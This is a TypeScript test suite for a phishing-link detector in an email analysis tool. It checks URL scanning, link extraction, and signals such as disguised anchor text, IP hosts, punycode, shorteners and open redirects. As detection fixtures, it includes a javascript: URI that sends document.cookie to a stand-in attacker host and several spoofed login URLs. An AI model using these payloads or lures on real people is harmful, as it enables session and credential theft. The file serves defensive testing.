import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { SHIPPED_BRANDS } from './brands.js';
import { analyzeHtml } from './html.js';
import { extractLinks, linkDomains, linkReasons, MAX_LINKS, scanUrls, shownDomain } from './links.js';
import {
  DEFAULT_MAIL_SETTINGS,
  type MailSettings,
  type MessageLink,
  type ParsedMessage,
  type SignalContext,
} from './types.js';

function message(overrides: Partial<ParsedMessage> = {}): ParsedMessage {
  return {
    headers: [],
    from: { name: 'Service', address: 'news@shop.example', domain: 'shop.example' },
    sender: undefined,
    replyTo: [],
    returnPath: undefined,
    subject: 'Hello',
    text: '',
    html: '',
    attachments: [],
    problems: [],
    size: 100,
    ...overrides,
  };
}

function context(
  links: MessageLink[],
  settings: MailSettings = DEFAULT_MAIL_SETTINGS,
  from = 'shop.example',
): SignalContext {
  const msg = message({ from: { name: 'x', address: `a@${from}`, domain: from } });
  return { message: msg, settings, html: analyzeHtml(''), links, brands: [] };
}

const codes = (links: MessageLink[], settings?: MailSettings, from?: string) =>
  linkReasons(context(links, settings, from)).map((r) => r.code);
const withBrands = (links: MessageLink[], from?: string) =>
  linkReasons({ ...context(links, DEFAULT_MAIL_SETTINGS, from), brands: SHIPPED_BRANDS }).map((r) => r.code);
const html = (href: string, text = 'Click here'): MessageLink => ({ href, text, source: 'html' });

describe('scanUrls', () => {
  it('finds URLs in text and trims sentence punctuation', () => {
    expect(scanUrls('See https://example.com/a?b=1. Or (www.example.org/x), or http://x.test/wiki/A_(b)!')).toEqual([
      'https://example.com/a?b=1',
      'www.example.org/x',
      'http://x.test/wiki/A_(b)',
    ]);
  });

  it('never throws, stays bounded, and always finds a known URL', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 1_000 }), fc.string({ maxLength: 1_000 }), (before, after) => {
        const urls = scanUrls(`${before} https://known.example/path ${after}`);
        expect(urls.length).toBeLessThanOrEqual(MAX_LINKS);
        expect(urls.some((u) => u.includes('known.example/path') || u.startsWith('https://known.example'))).toBe(true);
        for (const u of scanUrls(before)) expect(u.length).toBeLessThanOrEqual(2_100);
      }),
      { numRuns: 300 },
    );
  });

  it('finishes on large inputs within the test time-out (linear scanner)', () => {
    const inputs = [
      'http://'.repeat(300_000),
      `https://a.test/${'.'.repeat(500_000)}`,
      'www.'.repeat(300_000),
      `${'https://x.test/'.repeat(1)}${'a'.repeat(900_000)}`,
    ];
    for (const text of inputs) {
      const urls = scanUrls(text);
      expect(urls.length).toBeLessThanOrEqual(MAX_LINKS);
    }
  });
});

describe('extractLinks', () => {
  it('takes anchors and text URLs, skipping mailto and duplicates', () => {
    const facts = analyzeHtml(
      '<a href="https://a.test/x">A</a><a href="https://a.test/x">A</a><a href="mailto:x@y.z">mail</a><a href="#top">top</a><p>Go to https://b.test/y now</p>',
    );
    const links = extractLinks(message({ text: 'Also https://a.test/x and https://c.test/z' }), facts);
    expect(links).toEqual([
      { href: 'https://a.test/x', text: 'A', source: 'html' },
      { href: 'https://c.test/z', source: 'text' },
      { href: 'https://b.test/y', source: 'text' },
    ]);
  });

  it('does not take the URL shown as an anchor label for a link of its own', () => {
    const facts = analyzeHtml('<a href="http://evil.test/">https://www.bank.test/login</a>');
    expect(extractLinks(message(), facts)).toEqual([
      { href: 'http://evil.test/', text: 'https://www.bank.test/login', source: 'html' },
    ]);
  });

  it('keeps the lure when hidden anchors pad the message, and says links were left out', () => {
    let markup = '<a href="">x</a><a href="#">y</a>';
    for (let i = 0; i < 600; i++) markup += `<a href="https://www.wikipedia.org/?p=${i}"></a>`;
    markup += ' <a href="https://www.wikipedia.org/?p=3">https://www.wikipedia.org</a>';
    markup += ' <a href="http://203.0.113.7/login/verify.php">https://login.microsoftonline.com</a>';
    const msg = message();
    const links = extractLinks(msg, analyzeHtml(markup));
    expect(links.length).toBe(MAX_LINKS);
    expect(links).toContainEqual({
      href: 'http://203.0.113.7/login/verify.php',
      text: 'https://login.microsoftonline.com',
      source: 'html',
    });
    // One link per target: the duplicate keeps the text that shows a site.
    expect(links.filter((l) => l.href === 'https://www.wikipedia.org/?p=3')).toEqual([
      { href: 'https://www.wikipedia.org/?p=3', text: 'https://www.wikipedia.org', source: 'html' },
    ]);
    const reasons = linkReasons({ ...context(links), message: msg });
    const tooMany = reasons.find((r) => r.code === 'mail.link.too_many');
    expect(tooMany).toMatchObject({ weight: 1, category: 'link', data: { count: 601, examined: MAX_LINKS } });
    expect(tooMany?.message.fr).toContain('601');
    expect(reasons.map((r) => r.code)).toEqual(
      expect.arrayContaining(['mail.link.ip_host', 'mail.link.text_target_mismatch']),
    );
  });

  it('bounds the number of links', () => {
    const text = Array.from({ length: 2_000 }, (_, i) => `https://h${i}.test/`).join(' ');
    expect(extractLinks(message({ text }), analyzeHtml('')).length).toBe(MAX_LINKS);
  });
});

describe('linkDomains', () => {
  it('lists distinct lower-case hosts of web links only', () => {
    expect(
      linkDomains([
        html('https://WWW.Example.com/a'),
        html('http://www.example.com/b'),
        html('javascript:alert(1)'),
        { href: 'www.other.test/x', source: 'text' },
        html('ftp://files.test/x'),
      ]),
    ).toEqual(['www.example.com', 'www.other.test']);
  });
});

describe('shownDomain', () => {
  it('reads URLs and domain names, not words or file names', () => {
    expect(shownDomain('https://www.paypal.com/signin')?.domain).toBe('paypal.com');
    expect(shownDomain('PayPal.com')?.domain).toBe('paypal.com');
    expect(shownDomain('https://www.bank.fr/x cut by a break')?.domain).toBe('bank.fr');
    expect(shownDomain('Click here')).toBeUndefined();
    expect(shownDomain('invoice.zip')).toBeUndefined();
    expect(shownDomain('Mr.Smith')).toBeUndefined();
  });
});

describe('linkReasons', () => {
  it('flags text showing one site and linking to another, the strongest link reason', () => {
    const reasons = linkReasons(context([html('http://evil.test/login', 'https://www.paypal.com/signin')]));
    expect(reasons.map((r) => r.code)).toContain('mail.link.text_target_mismatch');
    const mismatch = reasons.find((r) => r.code === 'mail.link.text_target_mismatch');
    expect(mismatch?.weight).toBeGreaterThanOrEqual(3.5);
    expect(mismatch?.message.en).toContain('www.paypal.com → evil.test');
  });

  it('is not fooled by the shown address copied into the query string of another site', () => {
    const disguised = html(
      'http://rnicrosoft-secure.xyz/login?return=https%3A%2F%2Flogin.microsoftonline.com',
      'https://login.microsoftonline.com',
    );
    expect(codes([disguised])).toContain('mail.link.text_target_mismatch');
  });

  it('does not flag the same site, nor a newsletter tracker carrying the sender site', () => {
    expect(codes([html('https://paypal.com/x', 'www.paypal.com')])).toEqual([]);
    // Same owner through the brand's own list of domains, not through the shared label.
    expect(withBrands([html('https://www.amazon.fr/x', 'amazon.com')])).toEqual([]);
    expect(codes([html('https://x.com/brand', 'twitter.com/brand')])).toEqual([]);
    expect(codes([html('https://click.mailer.test/c/123', 'www.shop.example')])).toEqual([]);
    expect(codes([html('https://t.esp.test/r/?u=https%3A%2F%2Fwww.brand.test%2F', 'www.brand.test')])).not.toContain(
      'mail.link.text_target_mismatch',
    );
  });

  it('does not take two domains sharing a label for one owner', () => {
    for (const target of [
      'https://www.paypal.top/signin',
      'https://paypal.com.co/signin',
      'https://www.paypal.co/signin',
    ]) {
      expect(withBrands([html(target, 'https://www.paypal.com/signin')]), target).toContain(
        'mail.link.text_target_mismatch',
      );
    }
    expect(withBrands([html('https://www.paypal.fr/signin', 'https://www.paypal.com/signin')])).toEqual([]);
    expect(withBrands([html('https://amzn.to/abc', 'www.amazon.fr')])).toEqual([]);
  });

  it("does not let the unauthenticated sender's own domain excuse an odd link", () => {
    expect(codes([html('https://secure-docs.top/login/verify', 'Open')], undefined, 'secure-docs.top')).toEqual(
      expect.arrayContaining(['mail.link.risky_tld', 'mail.link.credential_path']),
    );
    expect(codes([html('https://evil-docs.web.app/signin', 'Open')], undefined, 'foo.web.app')).toEqual(
      expect.arrayContaining(['mail.link.free_hosting', 'mail.link.credential_path']),
    );
    expect(codes([html('https://files.shop.example/tools.zip', 'Open')])).toContain('mail.link.file_download');
    // Two tenants of a hosting platform are two owners; a tenant's own tracker is still its own.
    expect(codes([html('https://evil.github.io/x', 'https://foo.github.io')], undefined, 'foo.github.io')).toContain(
      'mail.link.text_target_mismatch',
    );
    expect(codes([html('https://click.shop.example/c/1', 'www.shop.example')])).toEqual([]);
  });

  it('flags IP hosts, encoded or not, but not private addresses', () => {
    expect(codes([html('http://203.0.113.9/paypal/')])).toContain('mail.link.ip_host');
    const encoded = linkReasons(context([html('http://3405803785/x')])).find((r) => r.code === 'mail.link.ip_host');
    expect(encoded?.weight).toBeGreaterThan(3);
    expect(codes([html('http://0xcb.0x0.0x71.0x9/x')])).toContain('mail.link.ip_host');
    expect(codes([html('http://[2001:db8::1]/x')])).toContain('mail.link.ip_host');
    expect(codes([{ href: 'http://192.168.1.10:8080/', source: 'text' }])).toEqual([]);
  });

  it('flags shorteners, risky TLDs, user-info, punycode, many subdomains, script and data links', () => {
    expect(codes([html('https://bit.ly/3abcd')])).toContain('mail.link.shortener');
    expect(codes([html('https://bit.ly/')])).not.toContain('mail.link.shortener');
    expect(codes([html('https://secure-bank.xyz/')])).toContain('mail.link.risky_tld');
    expect(codes([html('https://www.paypal.com@evil.test/')])).toContain('mail.link.userinfo');
    expect(codes([html('https://xn--pypal-4ve.com/')])).toContain('mail.link.punycode');
    expect(codes([html('https://paypal.com.login.secure.verify.evil.test/')])).toContain('mail.link.many_subdomains');
    expect(codes([html('javascript:fetch("//evil.test?"+document.cookie)')])).toContain('mail.link.script_uri');
    expect(codes([html('javascript:void(0)')])).toEqual([]);
    const data = linkReasons(context([html('data:text/html;base64,PHNjcmlwdD4=')]));
    expect(data[0]?.code).toBe('mail.link.script_uri');
    expect(data[0]?.weight).toBeGreaterThanOrEqual(3);
  });

  it('flags direct downloads, free hosting and open redirectors', () => {
    expect(codes([html('https://files.test/invoice.exe')])).toContain('mail.link.file_download');
    expect(codes([html('https://files.test/invoice.zip')])).toContain('mail.link.file_download');
    expect(codes([html('https://my-login-page.web.app/')])).toContain('mail.link.free_hosting');
    expect(codes([html('https://storage.googleapis.com/bucket/index.html')])).toContain('mail.link.free_hosting');
    expect(codes([html('https://docs.google.com/document/d/abc')])).toEqual([]);
    expect(codes([html('https://docs.google.com/forms/d/e/abc/viewform')])).toContain('mail.link.free_hosting');
    expect(codes([html('https://www.google.com/url?q=https://evil.test/')])).toContain('mail.link.open_redirect');
    expect(codes([html('https://www.google.com/amp/s/evil.test/x')])).toContain('mail.link.open_redirect');
    expect(codes([html('https://nam02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fx.test')])).toEqual([]);
    expect(codes([html('https://www.google.com/search?q=cats')])).toEqual([]);
  });

  it('scores a sign-in path only on a link that is already odd', () => {
    expect(codes([html('https://accounts.partner.test/login')])).toEqual([]);
    expect(codes([html('https://verify-now.xyz/login')])).toContain('mail.link.credential_path');
    expect(codes([html('https://site.weebly.com/connexion/compte')])).toContain('mail.link.credential_path');
  });

  it('does not flag the organisation sharing files from its own SharePoint', () => {
    const settings: MailSettings = { ...DEFAULT_MAIL_SETTINGS, organisationDomains: ['corp.test'] };
    const share = html('https://corp.sharepoint.com/:b:/s/team/doc');
    expect(codes([share], settings, 'corp.test')).toEqual([]);
    expect(codes([share], settings, 'outsider.test')).toContain('mail.link.free_hosting');
  });

  it('gives no reason for trusted or organisation domains', () => {
    const settings: MailSettings = {
      ...DEFAULT_MAIL_SETTINGS,
      allowedLinkDomains: ['bit.ly'],
      organisationDomains: ['corp.test'],
    };
    expect(
      codes([html('https://bit.ly/3abcd'), html('http://intranet.corp.test/login', 'www.paypal.com')], settings),
    ).toEqual([]);
  });

  it('aggregates: one reason per kind with a count and a few examples', () => {
    const links = Array.from({ length: 40 }, (_, i) => html(`https://bit.ly/x${i}`));
    const reasons = linkReasons(context(links));
    expect(reasons).toHaveLength(1);
    expect(reasons[0]?.data?.count).toBe(40);
    expect(((reasons[0]?.data?.examples ?? []) as string[]).length).toBeLessThanOrEqual(3);
    expect(reasons[0]?.weight).toBeLessThanOrEqual(2);
  });

  it('says when a link came from a QR code', () => {
    const reasons = linkReasons(context([{ href: 'http://203.0.113.9/x', source: 'qr' }]));
    expect(reasons[0]?.message.en).toContain('QR code');
    expect(reasons[0]?.message.fr).toContain('QR code');
    expect(reasons[0]?.data?.fromQr).toBe(1);
  });

  it('uses stable lower-case codes of category link and bounded data', () => {
    const reasons = linkReasons(
      context([
        html(`http://203.0.113.9/${'a'.repeat(5_000)}`, 'https://www.bank.test/'),
        html('https://bit.ly/abc'),
        html('https://x.top/'),
      ]),
    );
    for (const r of reasons) {
      expect(r.code).toMatch(/^mail\.link\.[a-z_]+$/);
      expect(r.category).toBe('link');
      for (const e of (r.data?.examples as string[]) ?? []) expect(e.length).toBeLessThanOrEqual(200);
      expect(r.message.en.length).toBeLessThan(600);
    }
  });

  it('scores a full set of long, odd links within the test time-out', () => {
    const odd = [
      `http://203.0.113.9/${'.'.repeat(2_000)}`,
      `https://a.b.c.d.e.f.g.xyz/${'?url=http://x.test&'.repeat(100)}`,
      `https://${'a-'.repeat(120)}a.top/${'/'.repeat(1_500)}`,
      `javascript:${' '.repeat(2_000)}x`,
    ];
    const links = Array.from({ length: MAX_LINKS }, (_, i) =>
      html(odd[i % odd.length] ?? '', `www.${'x.'.repeat(100)}com`),
    );
    linkReasons(context(links));
  });

  it('never throws on arbitrary links', () => {
    fc.assert(
      fc.property(
        fc.array(fc.record({ href: fc.string({ maxLength: 300 }), text: fc.string({ maxLength: 100 }) }), {
          maxLength: 20,
        }),
        (raw) => {
          const links: MessageLink[] = raw.map((l) => ({ ...l, source: 'html' }));
          const reasons = linkReasons(context(links));
          expect(reasons.length).toBeLessThanOrEqual(12);
          linkDomains(links);
        },
      ),
      { numRuns: 300 },
    );
  });
});
